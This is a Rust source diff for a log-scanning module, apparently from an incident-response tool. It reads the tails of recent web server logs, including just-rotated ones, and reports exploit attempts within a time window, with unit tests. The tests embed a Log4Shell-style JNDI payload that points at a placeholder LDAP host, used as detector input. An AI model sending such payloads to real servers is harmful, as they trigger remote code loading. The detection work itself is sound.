@@ -1,0 +1,178 @@
+//! What was tried on an application around the moment at which it connected to somebody, by whomever?
+//!
+//! Who attacks and who is called back are often two. Only the ends of the newest logs are read, and of them only lines
+//! that match a rule and stand in the window of time are taken.
+
+use std::fs::File;
+use std::io::{Read, Seek, SeekFrom};
+
+use tripoint_model::{Attempt, Timestamp};
+
+use crate::lines::Lines;
+use crate::locate::{Log, generations, open};
+use crate::log::{LogFormat, pattern};
+use crate::scan::{Options, Scan};
+
+/// When it must have been.
+#[derive(Clone, Copy, Debug)]
+pub struct Window {
+    /// Not before.
+    pub from: Timestamp,
+    /// Not after.
+    pub to: Timestamp,
+}
+
+/// What was found.
+#[derive(Clone, Debug, Default)]
+pub struct Tried {
+    /// Exploits that somebody tried, in the order of logs and lines, at most `ATTEMPTS_MAX`.
+    pub attempts: Vec<Attempt>,
+    /// What was not read, and why.
+    pub missing: Vec<String>,
+}
+
+/// Attempts that are kept: the newest.
+pub const ATTEMPTS_MAX: usize = 64;
+/// The end of a log that is read, bytes: some sixty thousand requests.
+const END_BYTES_MAX: u64 = 8 << 20;
+/// Lines before it are counted for their numbers, as far as that is quick.
+const COUNTED_BYTES_MAX: u64 = 512 << 20;
+
+/// Reads the ends of logs.
+pub fn tried(logs: &[Log], window: Window, options: &Options<'_>, is_over: &dyn Fn() -> bool) -> Tried {
+    let mut found = Tried::default();
+    for log in logs {
+        // A log that was rotated a moment ago has its end in the generation before, which is packed a day later.
+        for one in generations(log).iter().take(2).filter(|one| !is_packed(one)) {
+            if is_over() {
+                found.missing.push(format!("{}: its end was not read, the time is over", one.path.display()));
+                return found;
+            }
+            if let Err(error) = end_of(one, window, options, is_over, &mut found) {
+                found.missing.push(format!("{}: {error}", one.path.display()));
+            }
+        }
+    }
+    found
+}
+
+fn is_packed(log: &Log) -> bool {
+    let ending = log.path.extension().and_then(|ending| ending.to_str());
+    ending.is_some_and(|ending| ["gz", "xz", "zst", "bz2"].contains(&ending))
+}
+
+fn end_of(
+    log: &Log,
+    window: Window,
+    options: &Options<'_>,
+    is_over: &dyn Fn() -> bool,
+    found: &mut Tried,
+) -> Result<(), String> {
+    let mut file = open(log).map_err(|error| error.to_string())?;
+    let about = file.metadata().map_err(|error| error.to_string())?;
+    if about.modified().is_ok_and(|written| Timestamp::from_system(written) < window.from) {
+        return Ok(());
+    }
+    let start = about.len().saturating_sub(END_BYTES_MAX);
+    let before = lines_before(&mut file, start, is_over).map_err(|error| error.to_string())?;
+    file.seek(SeekFrom::Start(start)).map_err(|error| error.to_string())?;
+    let path = log.path.display().to_string();
+    let made = log.pattern.as_deref().and_then(|pattern| pattern::compile(pattern).ok());
+    let mut show = |mut attempt: Attempt| {
+        let is_then = attempt.time.is_some_and(|time| (window.from..=window.to).contains(&time));
+        if !is_then || !attempt.is_exploit() {
+            return;
+        }
+        if before.is_none() {
+            attempt.line = 0;
+            attempt.reasons.push("the log is too large for its lines to be counted: line 0, see the offset".into());
+        }
+        if found.attempts.len() >= ATTEMPTS_MAX {
+            found.attempts.remove(0);
+        }
+        found.attempts.push(attempt);
+    };
+    let mut scan = Scan::new(&path, options, &mut show).preferring(made.as_ref().map(|made| made as &dyn LogFormat));
+    let mut lines = Lines::new(file.take(END_BYTES_MAX));
+    while let Some(line) = lines.next_line().map_err(|error| error.to_string())? {
+        // The first one was cut by where we began.
+        if start == 0 || line.number > 1 {
+            scan.line(before.unwrap_or(0) + line.number, start + line.offset, &line.text);
+        }
+        if line.number.is_multiple_of(4096) && is_over() {
+            break;
+        }
+    }
+    scan.end();
+    Ok(())
+}
+
+/// How many lines end before `end`; nothing where counting would take long.
+fn lines_before(file: &mut File, end: u64, is_over: &dyn Fn() -> bool) -> std::io::Result<Option<u64>> {
+    if end > COUNTED_BYTES_MAX {
+        return Ok(None);
+    }
+    let mut buffer = vec![0; 1 << 20];
+    let (mut left, mut count) = (end, 0);
+    while left > 0 && !is_over() {
+        let most = usize::try_from(left.min(1 << 20)).unwrap_or(1 << 20);
+        let read = file.read(&mut buffer[..most])?;
+        if read == 0 {
+            break;
+        }
+        count += memchr::memchr_iter(b'\n', &buffer[..read]).count() as u64;
+        left -= read as u64;
+    }
+    Ok((left == 0).then_some(count))
+}
+
+#[cfg(test)]
+mod tests {
+    use std::path::Path;
+
+    use super::*;
+    use crate::attempt::pack;
+    use crate::locate::How;
+    use crate::stamp::Clock;
+
+    fn request(second: u32, target: &str) -> String {
+        format!("198.51.100.77 - - [29/Nov/2026:10:00:{second:02} +0000] \"GET {target} HTTP/1.1\" 200 512\n")
+    }
+
+    fn found(folder: &Path, name: &str) -> Tried {
+        let log = Log { path: folder.join(name), root: "/".into(), how: How::OpenFile, pattern: None };
+        let at = |second: i64| Timestamp::from_seconds(1_795_946_400 + second);
+        let options = Options { format: None, clock: Clock::at(at(60)), pack: pack(), is_proxy: &|_| false };
+        let mut found = tried(&[log], Window { from: at(5), to: at(20) }, &options, &|| false);
+        found.attempts.retain(|one| one.family == "jndi");
+        found
+    }
+
+    #[test]
+    fn exploits_of_the_time_are_found_with_their_lines_and_nothing_else() {
+        let folder = tempfile::tempdir().unwrap();
+        let write = |name: &str, lines: &[String]| std::fs::write(folder.path().join(name), lines.concat()).unwrap();
+        let jndi = "/?x=${jndi:ldap://203.0.113.66/a}";
+        write("a.log", &[request(1, jndi), request(9, "/index.html"), request(10, jndi), request(30, jndi)]);
+        let told: Vec<_> = found(folder.path(), "a.log").attempts.iter().map(|one| (one.line, one.offset)).collect();
+        let second = (request(1, jndi).len() + request(9, "/index.html").len()) as u64;
+        assert_eq!(told, [(3, second)]);
+        // Rotated since: the end of the generation before counts.
+        write("b.log", &[request(25, "/")]);
+        write("b.log.1", &[request(10, jndi)]);
+        let attempts = found(folder.path(), "b.log").attempts;
+        assert!(attempts.len() == 1 && attempts[0].file.ends_with("b.log.1"), "{attempts:?}");
+    }
+
+    #[test]
+    fn of_a_large_log_the_end_is_read_and_its_lines_keep_their_numbers() {
+        let folder = tempfile::tempdir().unwrap();
+        let filler = request(7, &format!("/{}", "x".repeat(500)));
+        let many = usize::try_from(END_BYTES_MAX).unwrap() / filler.len() + 1000;
+        let text = filler.repeat(many) + &request(10, "/?x=${jndi:ldap://203.0.113.66/a}");
+        std::fs::write(folder.path().join("a.log"), &text).unwrap();
+        let attempts = found(folder.path(), "a.log").attempts;
+        assert_eq!(attempts.len(), 1);
+        assert_eq!((attempts[0].line, attempts[0].offset), (many as u64 + 1, (filler.len() * many) as u64));
+    }
+}
